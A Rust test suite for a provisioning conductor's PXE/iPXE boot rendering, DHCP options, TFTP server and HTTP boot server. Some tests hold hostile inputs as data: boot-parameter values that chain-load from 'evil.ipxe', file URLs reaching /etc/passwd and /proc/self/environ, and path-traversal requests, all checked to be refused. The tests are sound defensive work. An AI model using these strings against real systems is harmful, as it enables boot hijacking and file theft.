//! The pxe/ipxe boot interfaces (rendered configs compared with upstream's
//! templates rendered by Jinja, per-MAC links, DHCP option files, the
//! shared kernel cache, cleanup, validation) and the built-in TFTP (with
//! curl as the client, and raw packets for options and retransmission)
//! and HTTP boot servers.

use std::net::{SocketAddr, UdpSocket};
use std::os::unix::fs::MetadataExt;
use std::path::Path;
use std::time::Duration;

use ferrite_conductor::{boot, tftp, Config};
use serde_json::{json, Map, Value};

const NODE: &str = "1be26c0b-03f2-4d2e-ae87-c02d7f33c123";
const MAC: &str = "52:54:00:AB:cd:01";
const API: &str = "http://127.0.0.1:6385";

struct Env {
    dir: tempfile::TempDir,
    config: Config,
}

impl Env {
    fn new() -> Env {
        let dir = tempfile::tempdir().expect("tempdir");
        let mut config = Config::for_database("sqlite::memory:");
        config.deploy.tftp_root = dir.path().join("tftp");
        config.deploy.http_root = dir.path().join("http");
        config.deploy.dhcp_dir = dir.path().join("dhcp");
        config.deploy.tftp_bind = Some("127.0.0.1:69".into());
        config.deploy.http_url = Some("http://127.0.0.1:8080".into());
        config.deploy.api_url = Some(API.into());
        config.deploy.file_url_allowed_paths = vec![dir.path().to_path_buf()];
        std::fs::write(dir.path().join("kernel"), b"KERNEL-BYTES").expect("kernel");
        std::fs::write(dir.path().join("ramdisk"), vec![7u8; 70_000]).expect("ramdisk");
        Env { dir, config }
    }

    fn node(&self, uuid: &str, boot_interface: &str, mode: &str) -> Map<String, Value> {
        let doc = json!({
            "uuid": uuid,
            "boot_interface": boot_interface,
            "properties": {"capabilities": format!("boot_mode:{mode}")},
            "driver_info": {
                "deploy_kernel": format!("file://{}", self.dir.path().join("kernel").display()),
                "deploy_ramdisk": format!("file://{}", self.dir.path().join("ramdisk").display()),
            },
        });
        obj(doc)
    }

    fn tftp(&self, rel: &str) -> std::path::PathBuf {
        self.config.deploy.tftp_root.join(rel)
    }

    fn http(&self, rel: &str) -> std::path::PathBuf {
        self.config.deploy.http_root.join(rel)
    }
}

fn obj(value: Value) -> Map<String, Value> {
    match value {
        Value::Object(map) => map,
        _ => Map::new(),
    }
}

fn port(mac: &str) -> Map<String, Value> {
    obj(json!({"address": mac, "pxe_enabled": true}))
}

fn read(path: &Path) -> String {
    std::fs::read_to_string(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

fn expected(name: &str) -> String {
    read(
        &Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("tests/netboot_expected")
            .join(name),
    )
}

fn dhcp(env: &Env, mac: &str) -> Value {
    serde_json::from_str(&read(
        &env.config.deploy.dhcp_dir.join(format!("{mac}.json")),
    ))
    .expect("json")
}

#[tokio::test]
async fn pxe_bios_renders_pxelinux_and_dhcp_options() {
    let env = Env::new();
    let node = env.node(NODE, "pxe", "bios");
    let ports = [port(MAC)];
    boot::prepare_ramdisk(&env.config, &node, &ports, &format!("ipa-api-url={API}"))
        .await
        .expect("prepare");
    let config = read(&env.tftp(&format!("{NODE}/config")));
    assert_eq!(config, expected("pxe.txt"));
    // The per-MAC names link to the node's config.
    let mac = "52-54-00-ab-cd-01";
    assert_eq!(read(&env.tftp(&format!("pxelinux.cfg/01-{mac}"))), config);
    assert_eq!(read(&env.tftp(&format!("grub.cfg-01-{mac}"))), config);
    let link = std::fs::read_link(env.tftp(&format!("pxelinux.cfg/01-{mac}"))).expect("symlink");
    assert_eq!(link, Path::new("..").join(NODE).join("config"));
    assert_eq!(
        read(&env.tftp(&format!("{NODE}/deploy_kernel"))),
        "KERNEL-BYTES"
    );
    assert_eq!(
        std::fs::read(env.tftp(&format!("{NODE}/deploy_ramdisk")))
            .expect("ramdisk")
            .len(),
        70_000
    );
    let tftp_root = format!("{}/", env.config.deploy.tftp_root.display());
    assert_eq!(
        dhcp(&env, "52:54:00:ab:cd:01"),
        json!([
            {"opt_name": "67", "opt_value": "pxelinux.0", "ip_version": 4},
            {"opt_name": "210", "opt_value": tftp_root, "ip_version": 4},
            {"opt_name": "66", "opt_value": "127.0.0.1", "ip_version": 4},
            {"opt_name": "150", "opt_value": "127.0.0.1", "ip_version": 4},
            {"opt_name": "server-ip-address", "opt_value": "127.0.0.1", "ip_version": 4},
        ])
    );
    for bootfile in boot::BOOTFILES {
        assert!(env.tftp(bootfile).is_file(), "{bootfile}");
    }
    // Nothing for iPXE.
    assert!(!env.http("boot.ipxe").exists());

    boot::clean_up_ramdisk(&env.config, &node, &ports)
        .await
        .expect("clean up");
    assert!(!env.tftp(&format!("pxelinux.cfg/01-{mac}")).exists());
    assert!(std::fs::symlink_metadata(env.tftp(&format!("grub.cfg-01-{mac}"))).is_err());
    assert!(!env.tftp(NODE).exists());
    assert!(!env
        .config
        .deploy
        .dhcp_dir
        .join("52:54:00:ab:cd:01.json")
        .exists());
    // Cleaning up twice is fine.
    boot::clean_up_ramdisk(&env.config, &node, &ports)
        .await
        .expect("clean up again");
}

#[tokio::test]
async fn pxe_uefi_renders_grub() {
    let env = Env::new();
    let node = env.node(NODE, "pxe", "uefi");
    boot::prepare_ramdisk(
        &env.config,
        &node,
        &[port(MAC)],
        &format!("ipa-api-url={API}"),
    )
    .await
    .expect("prepare");
    let config = read(&env.tftp(&format!("{NODE}/config")));
    assert_eq!(config, expected("grub.txt"));
    assert_eq!(read(&env.tftp("grub.cfg-01-52-54-00-ab-cd-01")), config);
    assert_eq!(
        dhcp(&env, "52:54:00:ab:cd:01")[0]["opt_value"],
        "bootx64.efi"
    );
}

#[tokio::test]
async fn ipxe_renders_script_and_tags_dhcp_options() {
    let env = Env::new();
    let node = env.node(NODE, "ipxe", "uefi");
    boot::prepare_ramdisk(&env.config, &node, &[port(MAC)], "")
        .await
        .expect("prepare");
    let config = read(&env.http(&format!("{NODE}/config")));
    assert_eq!(config, expected("ipxe.txt"));
    assert_eq!(read(&env.http("pxelinux.cfg/52-54-00-ab-cd-01")), config);
    assert_eq!(
        read(&env.http(&format!("{NODE}/deploy_kernel"))),
        "KERNEL-BYTES"
    );
    // boot.ipxe is upstream's script (comments aside).
    let strip = |text: &str| -> Vec<String> {
        text.lines()
            .filter(|l| !l.starts_with('#') || l.starts_with("#!"))
            .map(str::to_string)
            .collect()
    };
    assert_eq!(
        strip(&read(&env.http("boot.ipxe"))),
        strip(&expected("boot.txt"))
    );
    assert_eq!(
        dhcp(&env, "52:54:00:ab:cd:01"),
        json!([
            {"opt_name": "tag:!ipxe,67", "opt_value": "snponly.efi", "ip_version": 4},
            {"opt_name": "tag:ipxe,67", "opt_value": "http://127.0.0.1:8080/boot.ipxe", "ip_version": 4},
            {"opt_name": "66", "opt_value": "127.0.0.1", "ip_version": 4},
            {"opt_name": "150", "opt_value": "127.0.0.1", "ip_version": 4},
            {"opt_name": "server-ip-address", "opt_value": "127.0.0.1", "ip_version": 4},
        ])
    );
    let bios = env.node("0d2c1a3b-0000-4000-8000-000000000002", "ipxe", "bios");
    boot::prepare_ramdisk(&env.config, &bios, &[port("52:54:00:00:00:02")], "")
        .await
        .expect("prepare");
    assert_eq!(
        dhcp(&env, "52:54:00:00:00:02")[0]["opt_value"],
        "undionly.kpxe"
    );

    boot::clean_up_ramdisk(&env.config, &node, &[port(MAC)])
        .await
        .expect("clean up");
    assert!(!env.http("pxelinux.cfg/52-54-00-ab-cd-01").exists());
    assert!(!env.http(NODE).exists());
    // The other node is untouched.
    assert!(env.http("pxelinux.cfg/52-54-00-00-00-02").exists());
}

#[tokio::test]
async fn nodes_sharing_a_kernel_share_one_cached_copy() {
    let env = Env::new();
    let uuids: Vec<String> = (0..20)
        .map(|n| format!("00000000-0000-4000-8000-{n:012}"))
        .collect();
    let prepares = uuids.iter().enumerate().map(|(n, uuid)| {
        let node = env.node(uuid, "pxe", "bios");
        let ports = vec![port(&format!("52:54:00:00:01:{n:02x}"))];
        let config = env.config.clone();
        async move { boot::prepare_ramdisk(&config, &node, &ports, "").await }
    });
    for result in futures::future::join_all(prepares).await {
        result.expect("prepare");
    }
    let inodes: std::collections::BTreeSet<u64> = uuids
        .iter()
        .map(|uuid| {
            std::fs::metadata(env.tftp(&format!("{uuid}/deploy_ramdisk")))
                .expect("ramdisk")
                .ino()
        })
        .collect();
    assert_eq!(inodes.len(), 1, "one file, hard-linked");
    let cached: Vec<_> = std::fs::read_dir(env.tftp(boot::MASTER_IMAGES_DIR))
        .expect("cache")
        .flatten()
        .collect();
    assert_eq!(cached.len(), 2, "kernel and ramdisk, once each");

    // A changed source is fetched again.
    tokio::time::sleep(Duration::from_millis(20)).await;
    std::fs::write(env.dir.path().join("kernel"), b"NEW-KERNEL").expect("kernel");
    let node = env.node(&uuids[0], "pxe", "bios");
    boot::prepare_ramdisk(&env.config, &node, &[port("52:54:00:00:01:00")], "")
        .await
        .expect("prepare");
    assert_eq!(
        read(&env.tftp(&format!("{}/deploy_kernel", uuids[0]))),
        "NEW-KERNEL"
    );
}

#[tokio::test]
async fn fake_boot_does_nothing() {
    let env = Env::new();
    let node = env.node(NODE, "fake", "bios");
    boot::prepare_ramdisk(&env.config, &node, &[], "")
        .await
        .expect("nothing to do");
    boot::clean_up_ramdisk(&env.config, &node, &[])
        .await
        .expect("nothing to do");
    assert!(!env.config.deploy.tftp_root.exists());
    assert!(!env.config.deploy.dhcp_dir.exists());
}

#[tokio::test]
async fn validation_errors_are_upstreams() {
    let env = Env::new();
    let node = env.node(NODE, "pxe", "bios");
    assert_eq!(
        boot::prepare_ramdisk(&env.config, &node, &[], "").await,
        Err(format!(
            "Node {NODE} does not have any port associated with it"
        ))
    );
    let mut bare = node.clone();
    bare.insert("driver_info".into(), json!({"deploy_kernel": "/k"}));
    assert_eq!(
        boot::validate(&env.config, &bare, &[port(MAC)]),
        Err(
            "Cannot validate PXE bootloader. Some parameters were missing in node's \
             driver_info and configuration. Missing are: ['deploy_ramdisk']"
                .to_string()
        )
    );
    let mut ipxe = env.node(NODE, "ipxe", "bios");
    let mut no_http = env.config.clone();
    no_http.deploy.http_url = None;
    no_http.deploy.http_bind = None;
    assert_eq!(
        boot::validate(&no_http, &ipxe, &[port(MAC)]),
        Err("iPXE boot is enabled but no HTTP URL or HTTP root was specified".to_string())
    );
    ipxe.insert(
        "driver_info".into(),
        json!({"deploy_kernel": "glance-uuid", "deploy_ramdisk": "x"}),
    );
    let err = boot::prepare_ramdisk(&env.config, &ipxe, &[port(MAC)], "")
        .await
        .expect_err("no image service");
    assert!(err.contains("glance-uuid"), "{err}");
    let mut missing = env.node(NODE, "pxe", "bios");
    missing.insert(
        "driver_info".into(),
        json!({"deploy_kernel": "/nonexistent/k", "deploy_ramdisk": "/nonexistent/r"}),
    );
    let err = boot::prepare_ramdisk(&env.config, &missing, &[port(MAC)], "")
        .await
        .expect_err("missing file");
    assert!(
        err.contains("/nonexistent/k") && err.contains("bare path"),
        "{err}"
    );
}

#[tokio::test]
async fn kernel_and_ramdisk_sources_are_limited_to_the_allowed_paths() {
    let env = Env::new();
    let outside = tempfile::tempdir().expect("outside");
    std::fs::write(outside.path().join("kernel"), b"HOST-FILE").expect("outside kernel");
    std::os::unix::fs::symlink(
        outside.path().join("kernel"),
        env.dir.path().join("link-to-outside"),
    )
    .expect("symlink");
    let ramdisk = format!("file://{}", env.dir.path().join("ramdisk").display());
    let refused = |kernel: String, config: Config| {
        let mut node = env.node(NODE, "pxe", "bios");
        node.insert(
            "driver_info".into(),
            json!({"deploy_kernel": kernel, "deploy_ramdisk": ramdisk}),
        );
        async move {
            boot::prepare_ramdisk(&config, &node, &[port(MAC)], "")
                .await
                .expect_err("refused")
        }
    };
    // A bare path is not a URL.
    let bare = env.dir.path().join("kernel").display().to_string();
    let err = refused(bare.clone(), env.config.clone()).await;
    assert!(err.contains(&bare) && err.contains("file://"), "{err}");
    // file:// outside the allowed directories, directly or through a link.
    for kernel in [
        format!("file://{}", outside.path().join("kernel").display()),
        format!(
            "file://{}",
            env.dir.path().join("link-to-outside").display()
        ),
    ] {
        let err = refused(kernel, env.config.clone()).await;
        assert!(err.contains("file_url_allowed_paths"), "{err}");
        assert!(!err.contains("HOST-FILE"), "{err}");
    }
    // System paths never, whatever the allow-list says.
    let mut everything = env.config.clone();
    everything.deploy.file_url_allowed_paths = vec!["/".into()];
    for kernel in [
        "file:///dev/zero",
        "file:///etc/passwd",
        "file:///proc/self/environ",
    ] {
        let err = refused(kernel.to_string(), everything.clone()).await;
        assert!(err.contains("not allowed"), "{err}");
    }
    assert!(!env.tftp(&format!("{NODE}/deploy_kernel")).exists());
}

#[tokio::test]
async fn kernel_append_params_are_rendered_once_and_cannot_inject() {
    let env = Env::new();
    // The engine's path: the agent's parameters, then the boot interface
    // adds the node's own in front, once.
    for (interface, mode, path) in [
        ("ipxe", "uefi", env.http(&format!("{NODE}/config"))),
        ("pxe", "uefi", env.tftp(&format!("{NODE}/config"))),
        ("pxe", "bios", env.tftp(&format!("{NODE}/config"))),
    ] {
        let mut node = env.node(NODE, interface, mode);
        node["driver_info"]["kernel_append_params"] = json!("%default% console=ttyS7");
        let agent_params = ferrite_conductor::deploy::kernel_params(&env.config, &node);
        boot::prepare_ramdisk(&env.config, &node, &[port(MAC)], &agent_params)
            .await
            .expect("prepare");
        let rendered = read(&path);
        let deploy_line = rendered
            .lines()
            .find(|l| l.contains("selinux=0"))
            .unwrap_or_default()
            .to_string();
        assert_eq!(
            deploy_line.matches("console=ttyS7").count(),
            1,
            "{interface}/{mode}: {deploy_line}"
        );
        assert_eq!(deploy_line.matches("nofb").count(), 1, "{deploy_line}");
        assert_eq!(
            deploy_line.matches("ipa-api-url=").count(),
            1,
            "{deploy_line}"
        );
    }
    // Values that would end the line or mean something to iPXE or grub
    // are refused before anything is written.
    for bad in [
        "console=ttyS0\nchain http://198.51.100.1/evil.ipxe",
        "console=ttyS0\r\nshell",
        "quiet || chain http://198.51.100.1/evil.ipxe",
        "quiet ; insmod evil",
        "x=${netX/ip}",
    ] {
        let other = "2be26c0b-03f2-4d2e-ae87-c02d7f33c124";
        let mut node = env.node(other, "ipxe", "uefi");
        node["driver_info"]["kernel_append_params"] = json!(bad);
        let err = boot::prepare_ramdisk(&env.config, &node, &[port("52:54:00:ab:cd:09")], "")
            .await
            .expect_err(bad);
        assert!(err.contains("kernel_append_params"), "{err}");
        assert!(!env.http(&format!("{other}/config")).exists(), "{bad}");
        // Node validation reports it too.
        let info = node["driver_info"].as_object().cloned().unwrap_or_default();
        assert!(boot::validate_driver_info(&info).is_err(), "{bad}");
    }
}

// ---- TFTP ----

async fn tftp_server(root: &Path) -> tftp::TftpServer {
    tftp::start(
        "127.0.0.1:0",
        root.to_path_buf(),
        tftp::TftpOptions {
            timeout: Duration::from_millis(300),
            retries: 3,
            ..tftp::TftpOptions::default()
        },
    )
    .await
    .expect("tftp server")
}

fn curl_tftp(addr: SocketAddr, path: &str, out: &Path, extra: &[&str]) -> std::process::Output {
    std::process::Command::new("curl")
        .args(["-s", "-S", "--path-as-is", "--max-time", "20", "-o"])
        .arg(out)
        .args(extra)
        .arg(format!("tftp://{addr}/{path}"))
        .output()
        .expect("curl runs (Debian's curl has tftp)")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tftp_serves_files_to_curl() {
    let dir = tempfile::tempdir().expect("tempdir");
    let root = dir.path().join("root");
    std::fs::create_dir_all(root.join("pxelinux.cfg")).expect("mkdir");
    let big: Vec<u8> = (0..300_000u32).map(|n| (n * 7 % 251) as u8).collect();
    std::fs::write(root.join("big.bin"), &big).expect("write");
    std::fs::write(root.join("exact.bin"), vec![1u8; 1024]).expect("write");
    std::fs::write(root.join("pxelinux.cfg/01-aa"), b"default deploy\n").expect("write");
    std::fs::write(dir.path().join("secret"), b"secret").expect("write");
    let server = tftp_server(&root).await;
    let addr = server.local_addr;
    let out = dir.path().join("out");
    let fetch = move |path: &str, extra: &[&str]| {
        let _ = std::fs::remove_file(&out);
        let output = curl_tftp(addr, path, &out, extra);
        (output, std::fs::read(&out).ok())
    };
    let (output, got) = tokio::task::spawn_blocking({
        let fetch = fetch.clone();
        move || fetch("big.bin", &[])
    })
    .await
    .expect("join");
    assert!(output.status.success(), "{output:?}");
    assert_eq!(got.as_deref(), Some(&big[..]));
    // A negotiated block size.
    let (output, got) = tokio::task::spawn_blocking({
        let fetch = fetch.clone();
        move || fetch("big.bin", &["--tftp-blksize", "1468"])
    })
    .await
    .expect("join");
    assert!(output.status.success(), "{output:?}");
    assert_eq!(got.as_deref(), Some(&big[..]));
    // A file that is an exact multiple of the block size ends with an
    // empty block.
    let (output, got) = tokio::task::spawn_blocking({
        let fetch = fetch.clone();
        move || fetch("exact.bin", &["--tftp-no-options"])
    })
    .await
    .expect("join");
    assert!(output.status.success(), "{output:?}");
    assert_eq!(got.map(|g| g.len()), Some(1024));
    let (output, got) = tokio::task::spawn_blocking({
        let fetch = fetch.clone();
        move || fetch("pxelinux.cfg/01-aa", &[])
    })
    .await
    .expect("join");
    assert!(output.status.success(), "{output:?}");
    assert_eq!(got.as_deref(), Some(&b"default deploy\n"[..]));
    // Missing files and escapes are refused.
    for path in ["missing", "../secret", "pxelinux.cfg/../../secret"] {
        let (output, _) = tokio::task::spawn_blocking({
            let fetch = fetch.clone();
            let path = path.to_string();
            move || fetch(&path, &[])
        })
        .await
        .expect("join");
        assert!(!output.status.success(), "{path}: {output:?}");
    }
    server.stop();
}

fn rrq(parts: &[&str]) -> Vec<u8> {
    let mut packet = vec![0, 1];
    for part in parts {
        packet.extend_from_slice(part.as_bytes());
        packet.push(0);
    }
    packet
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tftp_options_errors_and_retransmission() {
    let dir = tempfile::tempdir().expect("tempdir");
    let root = dir.path().join("root");
    std::fs::create_dir_all(&root).expect("mkdir");
    std::fs::write(root.join("f"), vec![9u8; 1000]).expect("write");
    std::fs::write(dir.path().join("outside"), b"x").expect("write");
    let server = tftp_server(&root).await;
    let addr = server.local_addr;
    let (oack, first, again, denied, write) = tokio::task::spawn_blocking(move || {
        let client = UdpSocket::bind("127.0.0.1:0").expect("bind");
        client
            .set_read_timeout(Some(Duration::from_secs(5)))
            .expect("timeout");
        let mut buf = vec![0u8; 2048];
        client
            .send_to(
                &rrq(&["f", "octet", "tsize", "0", "blksize", "600", "bogus", "1"]),
                addr,
            )
            .expect("send");
        let (n, peer) = client.recv_from(&mut buf).expect("oack");
        let oack = buf[..n].to_vec();
        assert_ne!(peer, addr, "each transfer answers from its own port");
        client.send_to(&[0, 4, 0, 0], peer).expect("ack 0");
        let (n, _) = client.recv_from(&mut buf).expect("block 1");
        let first = buf[..n].to_vec();
        // No ACK: the server sends block 1 again after its timeout.
        let (n, _) = client.recv_from(&mut buf).expect("block 1 again");
        let again = buf[..n].to_vec();
        client.send_to(&[0, 4, 0, 1], peer).expect("ack 1");
        let (n, _) = client.recv_from(&mut buf).expect("block 2");
        assert_eq!(&buf[..4], &[0, 3, 0, 2]);
        assert_eq!(n, 4 + 400);
        client.send_to(&[0, 4, 0, 2], peer).expect("ack 2");

        let other = UdpSocket::bind("127.0.0.1:0").expect("bind");
        other
            .set_read_timeout(Some(Duration::from_secs(5)))
            .expect("timeout");
        other
            .send_to(&rrq(&["../outside", "octet"]), addr)
            .expect("send");
        let (n, _) = other.recv_from(&mut buf).expect("error");
        let denied = buf[..n].to_vec();
        let mut wrq = rrq(&["f", "octet"]);
        wrq[1] = 2;
        other.send_to(&wrq, addr).expect("send");
        let (n, _) = other.recv_from(&mut buf).expect("error");
        let write = buf[..n].to_vec();
        (oack, first, again, denied, write)
    })
    .await
    .expect("join");
    assert_eq!(oack, b"\0\x06tsize\x001000\0blksize\x00600\0".to_vec());
    assert_eq!(&first[..4], &[0, 3, 0, 1]);
    assert_eq!(first.len(), 4 + 600);
    assert_eq!(first, again);
    assert_eq!(&denied[..4], &[0, 5, 0, 2], "access violation");
    assert_eq!(&write[..4], &[0, 5, 0, 2], "read-only");
    server.stop();
}

// ---- The conductor's servers ----

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn conductor_serves_tftp_and_http_boot() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut config = Config::for_database(format!(
        "sqlite://{}?mode=rwc",
        dir.path().join("c.db").display()
    ));
    config.host = "netboot-test".into();
    config.deploy.tftp_root = dir.path().join("tftp");
    config.deploy.http_root = dir.path().join("http");
    config.deploy.dhcp_dir = dir.path().join("dhcp");
    config.deploy.tftp_bind = Some("127.0.0.1:0".into());
    config.deploy.http_bind = Some("127.0.0.1:0".into());
    let state = ferrite_conductor::prepare(config).await.expect("prepare");
    let http_url = state
        .config
        .deploy
        .http_url
        .clone()
        .expect("http_url filled in");
    let tftp_addr: SocketAddr = state
        .config
        .deploy
        .tftp_bind
        .as_deref()
        .expect("tftp bound")
        .parse()
        .expect("addr");
    assert_ne!(tftp_addr.port(), 0);
    assert!(!http_url.ends_with(":0"), "{http_url}");
    // Bootfiles and boot.ipxe were written at start.
    assert!(dir.path().join("tftp/pxelinux.0").is_file());
    assert!(dir.path().join("http/boot.ipxe").is_file());
    std::fs::create_dir_all(dir.path().join("http/node")).expect("mkdir");
    let payload: Vec<u8> = (0..100_000u32).map(|n| (n % 253) as u8).collect();
    std::fs::write(dir.path().join("http/node/deploy_ramdisk"), &payload).expect("write");
    std::fs::write(dir.path().join("secret"), b"secret").expect("write");

    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
    let serving = tokio::spawn(ferrite_conductor::serve(listener, state, async {
        let _ = stopped.await;
    }));

    let http = reqwest::Client::new();
    let mut ok = false;
    for _ in 0..50 {
        if http
            .get(format!("{http_url}/node/deploy_ramdisk"))
            .send()
            .await
            .is_ok()
        {
            ok = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert!(ok, "HTTP boot server answers");
    let reply = http
        .get(format!("{http_url}/node/deploy_ramdisk"))
        .send()
        .await
        .expect("get");
    assert_eq!(reply.status(), 200);
    assert_eq!(reply.bytes().await.expect("body").as_ref(), &payload[..]);
    let reply = http
        .get(format!("{http_url}/node/deploy_ramdisk"))
        .header("Range", "bytes=10-19")
        .send()
        .await
        .expect("get");
    assert_eq!(reply.status(), 206);
    assert_eq!(
        reply.headers()["content-range"].to_str().expect("ascii"),
        "bytes 10-19/100000"
    );
    assert_eq!(
        reply.bytes().await.expect("body").as_ref(),
        &payload[10..20]
    );
    let reply = http
        .get(format!("{http_url}/node/deploy_ramdisk"))
        .header("Range", "bytes=200000-")
        .send()
        .await
        .expect("get");
    assert_eq!(reply.status(), 416);
    let reply = http
        .head(format!("{http_url}/node/deploy_ramdisk"))
        .send()
        .await
        .expect("head");
    assert_eq!(reply.status(), 200);
    assert_eq!(reply.headers()["content-length"], "100000");
    // No listings, no escapes.
    for path in [
        "/",
        "/node",
        "/node/",
        "/%2e%2e/secret",
        "/node/%2e%2e/%2e%2e/secret",
    ] {
        let reply = http
            .get(format!("{http_url}{path}"))
            .send()
            .await
            .expect("get");
        assert_eq!(reply.status(), 404, "{path}");
    }

    // The TFTP server serves the same conductor's root.
    let out = dir.path().join("pxelinux.0.out");
    let output = tokio::task::spawn_blocking({
        let out = out.clone();
        move || curl_tftp(tftp_addr, "pxelinux.0", &out, &[])
    })
    .await
    .expect("join");
    assert!(output.status.success(), "{output:?}");
    assert_eq!(
        std::fs::read(&out).expect("out"),
        std::fs::read(dir.path().join("tftp/pxelinux.0")).expect("bootfile")
    );

    let _ = stop.send(());
    serving.await.expect("join").expect("served");
}

#[test]
fn deploy_config_is_validated() {
    let base = Config::for_database("sqlite::memory:");
    assert!(base.validate().is_ok());
    type Adjust = Box<dyn Fn(&mut Config)>;
    let cases: Vec<(Adjust, &str)> = vec![
        (
            Box::new(|c| c.deploy.tftp_bind = Some("localhost".into())),
            "invalid configuration: [deploy] tftp_bind must be an IP address and port such as \"0.0.0.0:69\", not \"localhost\"",
        ),
        (
            Box::new(|c| c.deploy.http_url = Some("ftp://x".into())),
            "invalid configuration: [deploy] http_url must be an http(s) URL, not \"ftp://x\"",
        ),
        (
            Box::new(|c| c.deploy.tftp_root = "relative".into()),
            "invalid configuration: [deploy] tftp_root must be an absolute path, not \"relative\"",
        ),
        (
            Box::new(|c| c.deploy.callback_timeout_secs = 0),
            "invalid configuration: [deploy] callback_timeout_secs must be positive",
        ),
    ];
    for (adjust, expected) in cases {
        let mut config = base.clone();
        adjust(&mut config);
        assert_eq!(
            config.validate().map_err(|e| e.to_string()),
            Err(expected.to_string())
        );
    }
}

#[tokio::test]
async fn a_busy_tftp_port_fails_the_start_clearly() {
    let dir = tempfile::tempdir().expect("tempdir");
    let taken = UdpSocket::bind("127.0.0.1:0").expect("bind");
    let addr = taken.local_addr().expect("addr");
    let mut config = Config::for_database(format!(
        "sqlite://{}?mode=rwc",
        dir.path().join("c.db").display()
    ));
    config.deploy.tftp_root = dir.path().join("tftp");
    config.deploy.http_root = dir.path().join("http");
    config.deploy.dhcp_dir = dir.path().join("dhcp");
    config.deploy.tftp_bind = Some(addr.to_string());
    let err = ferrite_conductor::prepare(config)
        .await
        .err()
        .expect("refused")
        .to_string();
    assert!(
        err.starts_with(&format!("netboot: cannot bind the TFTP server to {addr}: ")),
        "{err}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn kernels_are_downloaded_from_http() {
    let env = Env::new();
    let images = env.dir.path().join("images");
    std::fs::create_dir_all(&images).expect("mkdir");
    std::fs::write(images.join("k"), b"HTTP-KERNEL").expect("write");
    std::fs::write(images.join("r"), vec![3u8; 300_000]).expect("write");
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let base = format!("http://{}", listener.local_addr().expect("addr"));
    let server = ferrite_conductor::httpboot::serve(listener, images).expect("serve");
    let handle = server.handle();
    tokio::spawn(server);
    let mut node = env.node(NODE, "ipxe", "uefi");
    node.insert(
        "driver_info".into(),
        json!({"deploy_kernel": format!("{base}/k"), "deploy_ramdisk": format!("{base}/r")}),
    );
    boot::prepare_ramdisk(&env.config, &node, &[port(MAC)], "")
        .await
        .expect("prepare");
    assert_eq!(
        read(&env.http(&format!("{NODE}/deploy_kernel"))),
        "HTTP-KERNEL"
    );
    assert_eq!(
        std::fs::read(env.http(&format!("{NODE}/deploy_ramdisk"))).expect("ramdisk"),
        vec![3u8; 300_000]
    );
    node.insert(
        "driver_info".into(),
        json!({"deploy_kernel": format!("{base}/missing"), "deploy_ramdisk": format!("{base}/r")}),
    );
    let err = boot::prepare_ramdisk(&env.config, &node, &[port(MAC)], "")
        .await
        .expect_err("404");
    assert_eq!(
        err,
        format!("Cannot download image {base}/missing: HTTP status 404")
    );
    handle.stop(false).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tftp_block_numbers_roll_over() {
    // 8-byte blocks: 75,000 blocks, past the 16-bit block number.
    let dir = tempfile::tempdir().expect("tempdir");
    let root = dir.path().join("root");
    std::fs::create_dir_all(&root).expect("mkdir");
    let data: Vec<u8> = (0..600_000u32).map(|n| (n % 241) as u8).collect();
    std::fs::write(root.join("ramdisk"), &data).expect("write");
    let server = tftp_server(&root).await;
    let addr = server.local_addr;
    let out = dir.path().join("out");
    let output = tokio::task::spawn_blocking({
        let out = out.clone();
        move || curl_tftp(addr, "ramdisk", &out, &["--tftp-blksize", "8"])
    })
    .await
    .expect("join");
    assert!(output.status.success(), "{output:?}");
    assert_eq!(std::fs::read(&out).expect("out"), data);
    server.stop();
}
